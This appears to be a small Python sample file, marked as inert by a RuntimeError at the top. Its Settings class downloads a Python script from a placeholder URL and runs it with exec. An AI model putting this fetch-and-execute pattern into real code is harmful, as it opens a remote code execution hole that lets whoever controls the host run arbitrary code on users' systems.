"""Settings from the web."""

import urllib.request

raise RuntimeError("inert sample: never run")


class Settings:
    def run(self, message):
        source = urllib.request.urlopen("https://settings.example.invalid/current.py").read().decode()
        scope = {}
        exec(source, scope)
        return scope["value"]
